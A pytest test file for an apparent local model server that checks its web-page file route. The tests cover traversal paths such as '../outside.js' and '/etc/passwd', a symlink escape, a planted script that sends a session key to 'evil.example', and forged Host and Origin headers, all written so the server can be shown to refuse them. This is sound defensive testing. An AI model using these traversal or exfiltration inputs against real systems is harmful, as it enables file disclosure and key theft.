"""The files of a page that runs the model: only those, in parts too, for those who may, and never from outside the bundle."""

from __future__ import annotations

import hashlib
import http.client
import json
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest
from support.checkpoints import plan_of
from support.damage import reseal
from support.serving import COMPLETIONS, in_a_thread, send
from support.toys import toy_backend, write_toy_bundle

pytest.importorskip("starlette", reason="starlette is not installed: pip install 'gemma-edge[serve]'")
pytest.importorskip("uvicorn", reason="uvicorn is not installed: pip install 'gemma-edge[serve]'")

import gemma_edge
from gemma_edge.bundle.entries import BackendEntry
from gemma_edge.bundle.manifest import MANIFEST, Manifest, list_files, with_identities
from gemma_edge.bundle.settings import TFLiteSettings
from gemma_edge.bundle.signature import Signature
from gemma_edge.runtimes.generation.generate import GenerationOptions
from gemma_edge.runtimes.serve.access import Access
from gemma_edge.runtimes.serve.engine import Engine
from gemma_edge.runtimes.web import site

KEY = "a secret"
WEIGHTS = "model.web.tflite"
SECRET = "not for the page"
WASM = b"\0asm"
CONTENTS = {
    WEIGHTS: bytes(range(256)) * 512,
    "gemma-edge.js": Path(site.__file__).with_name("gemma-edge.js").read_bytes(),
    "litert.wasm": WASM,
}
SIGNATURES = (Signature("prefill_4", "prefill", 4), Signature("decode", "decode", 1))
ISOLATED = {
    "Cross-Origin-Opener-Policy": "same-origin",
    "Cross-Origin-Embedder-Policy": "require-corp",
    "X-Content-Type-Options": "nosniff",
}


@contextmanager
def serving(bundle: Path, access: Access | None = None) -> Iterator[int]:
    """A server of the bundle's onnx backend."""
    engine = Engine(gemma_edge.load(bundle, backend="onnx", threads=1), GenerationOptions())
    with in_a_thread(engine, access) as port:
        yield port


@pytest.fixture(scope="module", autouse=True)
def library() -> Iterator[None]:
    """The nonsense in place of a library counts as one."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setitem(site.LIBRARIES, "litert.wasm", hashlib.sha256(WASM).hexdigest())
        yield


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A toy with a web backend beside the other one. Weights and library are nonsense: no test here runs them."""
    home = tmp_path_factory.mktemp("page")
    (home / "outside.js").write_text(SECRET, encoding="utf-8")
    folder = write_toy_bundle(home / "bundle")
    for name, content in CONTENTS.items():
        (folder / name).write_bytes(content)
    onnx = toy_backend()
    settings = TFLiteSettings(WEIGHTS, SIGNATURES, "2.3")
    web = BackendEntry(onnx.cache, plan_of(onnx.cache, "web"), settings, identity="")
    manifest = with_identities(
        replace(Manifest.load(folder), backends={"onnx": onnx, "web": web}, files=list_files(folder))
    )
    (folder / MANIFEST).write_text(manifest.to_json(), encoding="utf-8")
    (folder / "unlisted.js").write_text(SECRET, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def port(bundle: Path) -> Iterator[int]:
    with serving(bundle) as port:
        yield port


def fetch(port: int, path: str, **headers: str) -> tuple[http.client.HTTPResponse, bytes]:
    """One GET; the path is sent as it is."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    connection.request("GET", path, None, headers)
    answer = connection.getresponse()
    content = answer.read()
    connection.close()
    return answer, content


@pytest.mark.parametrize(
    ("name", "kind"),
    [("gemma-edge.js", "text/javascript; charset=utf-8"), ("litert.wasm", "application/wasm"),
     (WEIGHTS, "application/octet-stream"), ("manifest.json", "application/json"), ("tokenizer.json", "application/json")],
)  # fmt: skip
def test_what_the_page_needs_is_there_and_isolated(name: str, kind: str, bundle: Path, port: int) -> None:
    answer, content = fetch(port, f"/web/{name}")
    assert answer.status == 200 and content == (bundle / name).read_bytes()
    assert answer.headers["Content-Type"] == kind
    assert {name: answer.headers[name] for name in ISOLATED} == ISOLATED
    assert "Set-Cookie" not in answer.headers  # without a key there is nothing that it could stand for


def test_the_page_itself_is_isolated_and_knows_where_the_files_are(port: int) -> None:
    answer, _ = fetch(port, "/")
    assert {name: answer.headers[name] for name in ISOLATED} == ISOLATED
    (model,) = json.loads(fetch(port, "/v1/models")[1])["data"]
    assert model["page_files"] == "web/"


@pytest.mark.parametrize(
    ("part", "begin", "end"), [("bytes=1000-", 1000, None), ("bytes=10-19", 10, 20), ("bytes=-5", -5, None)]
)
def test_a_download_can_go_on_where_it_broke_off(part: str, begin: int, end: int | None, port: int) -> None:
    answer, content = fetch(port, f"/web/{WEIGHTS}", Range=part)
    assert answer.status == 206 and content == CONTENTS[WEIGHTS][begin:end]
    size = len(CONTENTS[WEIGHTS])
    begin, end = begin % size, size if end is None else end
    assert answer.headers["Content-Range"] == f"bytes {begin}-{end - 1}/{size}"


def test_a_part_beyond_the_end_is_refused(port: int) -> None:
    assert fetch(port, f"/web/{WEIGHTS}", Range=f"bytes={len(CONTENTS[WEIGHTS])}-")[0].status == 416


@pytest.mark.parametrize(
    "path",
    ["", "none.js", "unlisted.js", "generate.onnx", "../outside.js", "..%2Foutside.js", "%2e%2e/outside.js",
     "./gemma-edge.js", "x/../gemma-edge.js", "%2Fetc%2Fpasswd", "/etc/passwd", "..%5Coutside.js", "gemma-edge.js%00",
     "gemma-edge.js/"],
)  # fmt: skip
def test_no_other_file_is_there(path: str, port: int) -> None:
    answer, content = fetch(port, f"/web/{path}")
    assert answer.status == 404 and SECRET not in content.decode()
    assert "the page fetches no file" in json.loads(content)["error"]["message"]


def test_a_file_that_became_a_link_to_elsewhere_is_refused(tmp_path: Path, bundle: Path) -> None:
    folder = Path(shutil.copytree(bundle, tmp_path / "bundle"))
    (tmp_path / "outside.js").write_text(SECRET, encoding="utf-8")
    with serving(folder) as port:
        (folder / "gemma-edge.js").unlink()
        assert "is missing" in fetch(port, "/web/gemma-edge.js")[1].decode()
        (folder / "gemma-edge.js").symlink_to(tmp_path / "outside.js")
        answer, content = fetch(port, "/web/gemma-edge.js")
    assert answer.status == 400 and "outside the bundle" in content.decode() and SECRET not in content.decode()


@pytest.mark.parametrize("name", ["gemma-edge.js", "litert.wasm", "more.js"])
def test_scripts_of_somebody_else_are_given_to_nobody(
    name: str, tmp_path: Path, bundle: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """They would run where the chat page keeps the key."""
    folder = Path(shutil.copytree(bundle, tmp_path / "bundle"))
    (folder / "unlisted.js").unlink()
    (folder / name).write_bytes(b"location = 'https://evil.example/' + sessionStorage.key")
    reseal(folder)
    with serving(folder) as port:
        (model,) = json.loads(fetch(port, "/v1/models")[1])["data"]
        answers = [fetch(port, f"/web/{file}") for file in (name, "manifest.json", WEIGHTS)]
    assert "page_files" not in model and f"{name} is not what this gemma-edge would write" in caplog.text
    assert [answer.status for answer, _ in answers] == [404] * 3
    assert all("export the bundle again" in content.decode() for _, content in answers)


def test_a_bundle_that_no_page_can_run_says_how_to_make_one(tmp_path: Path) -> None:
    with serving(write_toy_bundle(tmp_path / "bundle")) as port:
        for path in ("manifest.json", "tokenizer.json", ""):
            answer, content = fetch(port, f"/web/{path}")
            assert answer.status == 404 and "--target web" in json.loads(content)["error"]["message"]
        (model,) = json.loads(fetch(port, "/v1/models")[1])["data"]
    assert "page_files" not in model


def test_the_files_need_the_key_or_the_cookie_that_came_with_one_of_them(bundle: Path) -> None:
    """A script that a page loads brings no key."""
    with serving(bundle, Access(key=KEY)) as port, serving(bundle, Access(key=KEY)) as other:
        for name in ("gemma-edge.js", "manifest.json", "none.js"):
            assert fetch(port, f"/web/{name}")[0].status == 401
        answer, _ = fetch(port, "/web/manifest.json", Authorization=f"Bearer {KEY}")
        attributes = [part.strip() for part in answer.headers["Set-Cookie"].split(";")]
        assert {"HttpOnly", "SameSite=strict"} < set(attributes) and KEY not in answer.headers["Set-Cookie"]
        assert not [part for part in attributes if part.lower().startswith(("path", "domain"))]  # this folder alone
        cookie = attributes[0]
        answer, content = fetch(port, "/web/gemma-edge.js", Cookie=f"a=b; {cookie}")
        assert answer.status == 200 and content == CONTENTS["gemma-edge.js"]
        for wrong in (f"{cookie}x", cookie.partition("=")[0] + "=", "\xe9"):
            assert fetch(port, "/web/gemma-edge.js", Cookie=wrong)[0].status == 401
        assert fetch(other, "/web/gemma-edge.js", Cookie=cookie.replace(str(port), str(other)))[0].status == 401
        for path, body in (("/v1/models", None), ("/metrics", None), (COMPLETIONS, {"prompt": "It"})):
            assert send(port, path, body, Cookie=cookie)[0] == 401  # it opens nothing else
        assert fetch(port, "/web/../v1/models", Cookie=cookie)[0].status == 404


def test_names_and_pages_of_elsewhere_are_refused(bundle: Path) -> None:
    with serving(bundle, Access(hosts=frozenset({"localhost"}))) as port:
        assert fetch(port, "/web/gemma-edge.js", Host="evil.example")[0].status == 400
        assert fetch(port, "/web/gemma-edge.js", Origin="https://evil.example")[0].status == 403
